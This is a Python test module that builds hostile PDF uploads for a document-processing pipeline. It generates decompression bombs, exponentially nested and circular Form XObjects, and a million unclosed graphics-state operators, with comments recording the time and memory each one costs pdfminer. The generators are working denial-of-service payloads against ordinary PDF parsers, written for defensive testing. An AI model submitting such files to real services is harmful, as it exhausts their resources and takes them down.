"""Hostile upload builders, generated in code so every byte of the attack is visible."""

from __future__ import annotations

import functools
import zlib

_HEAD = b"BT /F1 12 Tf 72 720 Td (Decompression bomb) Tj ET\n"
_BLOCK = b" " * (1 << 20)


@functools.cache
def _bomb_stream(megabytes: int) -> bytes:
    """A valid zlib stream of ``_HEAD`` plus ``megabytes`` MB of spaces, built without
    compressing them all: once the window is full of spaces, each sync-flushed 1 MB
    chunk compresses to the same bytes, so one chunk is repeated (and the checksum is
    computed over the expanded data, which is cheap)."""
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [raw.compress(_HEAD) + raw.flush(zlib.Z_SYNC_FLUSH)]
    first = raw.compress(_BLOCK) + raw.flush(zlib.Z_SYNC_FLUSH)
    steady = raw.compress(_BLOCK) + raw.flush(zlib.Z_SYNC_FLUSH)
    assert raw.compress(_BLOCK) + raw.flush(zlib.Z_SYNC_FLUSH) == steady
    out.append(first)
    out.extend([steady] * (megabytes - 1))
    out.append(raw.flush(zlib.Z_FINISH))
    checksum = zlib.adler32(_HEAD)
    for _ in range(megabytes):
        checksum = zlib.adler32(_BLOCK, checksum)
    return b"\x78\xda" + b"".join(out) + checksum.to_bytes(4, "big")


def decompression_bomb_pdf(*, pages: int = 1, megabytes_per_page: int = 300) -> bytes:
    """A PDF of a few hundred KB whose page content streams FlateDecode-expand to
    ``megabytes_per_page`` MB each: a visible text operator, then endless spaces."""
    stream = _bomb_stream(megabytes_per_page)
    # 1 catalog, 2 page tree, 3 font, then (page, contents) pairs from 4 on.
    kids = b" ".join(b"%d 0 R" % (4 + 2 * index) for index in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for index in range(pages):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % (5 + 2 * index)
        )
        objects.append(
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream)
            + stream
            + b"\nendstream"
        )
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


# --- Drawing bombs: small files whose pages make the layout pass explode -------------------
#
# A Form XObject is a reusable drawing a page (or another form) paints with ``/Name Do``.
# pdfminer.six's layout pass paints every invocation anew, so a form that paints the one
# below it ten times, five levels deep, makes 10**5 copies of the innermost text out of a
# 3 KB file. Measured in a fresh interpreter (pdfminer.six 20260107, this machine):
#
#   levels  file     pdfminer layout pass        pypdf text extraction (the old precheck)
#   2       1.7 KB   0.1 s,     36 MB peak      0.1-1.6 s: pypdf stops after 5,000 form
#   3       2.2 KB   0.4 s,     63 MB peak      invocations and logs a warning, so the
#   4       2.6 KB   3.6 s,    331 MB peak      old upload precheck passed every one
#   5       3.1 KB   53 s,   3,021 MB peak
#
# A chain of forms a thousand deep (each painting the next once) ends pdfminer in a
# RecursionError (compare pdfminer.six issue #1113, the circular case, which the installed
# release now skips). A page of a million unclosed ``q`` operators (save graphics state)
# in a 2.5 KB file holds a million copies of the graphics state: 6.7 s and 450 MB.

_INNER_TEXT = b"Scores are computed from payment histories."


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF of the given objects, numbered from 1 (the first is the catalog)."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _stream(entries: bytes, content: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n" % (entries, len(content)) + content + b"\nendstream"


def _form(content: bytes, *, xobjects: bytes = b"") -> bytes:
    resources = b"/Font << /F1 3 0 R >>" + (b" /XObject << %s >>" % xobjects if xobjects else b"")
    return _stream(
        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << %s >>" % resources,
        content,
    )


def _one_page_pdf(
    content: bytes, extra_objects: list[bytes], *, page_xobjects: bytes = b"", filters=b""
) -> bytes:
    """Objects: 1 catalog, 2 page tree, 3 font, 4 the page, 5 its content, then extras
    from 6 on. The page shows a line of ordinary text before ``content``."""
    resources = b"/Font << /F1 3 0 R >>" + (
        b" /XObject << %s >>" % page_xobjects if page_xobjects else b""
    )
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << %s >> /Contents 5 0 R >>" % resources,
            _stream(filters, content),
            *extra_objects,
        ]
    )


_VISIBLE_LINE = b"BT /F1 12 Tf 72 740 Td (A short note on scoring.) Tj ET\n"


def nested_forms_pdf(*, levels: int = 5, fanout: int = 10, painted_as: bytes = b"X") -> bytes:
    """The reported attack: form level k paints level k-1 ``fanout`` times (shifted a
    little each time); level 0 shows a line of text. ``fanout ** levels`` copies. Each
    form is listed as /X in the resources and painted as ``/<painted_as> Do`` (``#58``
    spells X too)."""
    paint_one = b"/" + painted_as + b" Do"
    forms = [_form(b"BT /F1 4 Tf 0 700 Td (" + _INNER_TEXT + b") Tj ET")]
    for level in range(1, levels + 1):
        paint = b" ".join(
            b"q 1 0 0 1 %d %d cm %s Q" % (index, -index, paint_one) for index in range(fanout)
        )
        forms.append(_form(paint, xobjects=b"/X %d 0 R" % (6 + level - 1)))
    return _one_page_pdf(
        _VISIBLE_LINE + paint_one, forms, page_xobjects=b"/X %d 0 R" % (6 + levels)
    )


def form_chain_pdf(*, depth: int = 1000) -> bytes:
    """Forms nested ``depth`` deep, each painting the next once: linear in size, but a
    recursion as deep as the chain in any renderer that follows it."""
    return nested_forms_pdf(levels=depth, fanout=1)


def form_met_twice_pdf(*, chain: int = 7) -> bytes:
    """A page paints form A (a chain ``chain`` deep) directly, then again through another
    chain ``chain`` deep: A sits at the top once and 2 * ``chain`` deep once."""
    first = 6
    forms = []
    # A1 .. A<chain>: each paints the next; the last shows text.
    for index in range(chain):
        if index == chain - 1:
            forms.append(_form(b"BT /F1 9 Tf 72 700 Td (" + _INNER_TEXT + b") Tj ET"))
        else:
            forms.append(_form(b"/N Do", xobjects=b"/N %d 0 R" % (first + index + 1)))
    # B1 .. B<chain>: each paints the next; the last paints A1.
    for index in range(chain):
        following = first + chain + index + 1 if index < chain - 1 else first
        forms.append(_form(b"/N Do", xobjects=b"/N %d 0 R" % following))
    return _one_page_pdf(
        _VISIBLE_LINE + b"/A Do /B Do",
        forms,
        page_xobjects=b"/A %d 0 R /B %d 0 R" % (first, first + chain),
    )


def circular_forms_pdf() -> bytes:
    """Form A paints form B, which paints form A."""
    return _one_page_pdf(
        _VISIBLE_LINE + b"/A Do",
        [
            _form(b"BT /F1 9 Tf 72 700 Td (Loop A) Tj ET /B Do", xobjects=b"/B 7 0 R"),
            _form(b"BT /F1 9 Tf 72 690 Td (Loop B) Tj ET /A Do", xobjects=b"/A 6 0 R"),
        ],
        page_xobjects=b"/A 6 0 R",
    )


def nested_graphics_state_pdf(*, depth: int = 1_000_000) -> bytes:
    """``depth`` unclosed ``q`` operators (each saves a copy of the graphics state),
    FlateDecode-compressed: a few KB on disk."""
    return _one_page_pdf(
        zlib.compress(_VISIBLE_LINE + b"q " * depth, 9), [], filters=b"/Filter /FlateDecode"
    )


def many_pages_pdf(*, pages: int) -> bytes:
    """``pages`` pages sharing one small content stream."""
    kids = b" ".join(b"%d 0 R" % (5 + index) for index in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        _stream(b"", _VISIBLE_LINE),
    ]
    objects.extend(
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>"
        for _ in range(pages)
    )
    return _pdf(objects)


def many_objects_pdf(*, objects: int) -> bytes:
    """An ordinary one-page PDF padded with ``objects`` unused numbers."""
    padding = [b"%d" % index for index in range(objects)]
    return _one_page_pdf(_VISIBLE_LINE, padding)


def letterhead_pdf(*, pages: int = 30) -> bytes:
    """The control: an ordinary report whose every page paints a letterhead form that
    paints a logo form (two levels, as office software makes them), above real text."""
    import io

    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4)
    width, height = A4
    pdf.beginForm("logo")
    pdf.circle(20, 20, 15, fill=1)
    pdf.endForm()
    pdf.beginForm("letterhead")
    pdf.doForm("logo")
    pdf.setFont("Helvetica", 9)
    pdf.drawString(50, 15, "Institute for Scoring Studies")
    pdf.endForm()
    for number in range(1, pages + 1):
        pdf.saveState()
        pdf.translate(60, height - 70)
        pdf.doForm("letterhead")
        pdf.restoreState()
        pdf.setFont("Helvetica", 11)
        y = height - 120
        for line in range(30):
            pdf.drawString(
                72, y, f"Page {number}, line {line + 1}: scores decide who may rent or borrow."
            )
            y -= 16
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()
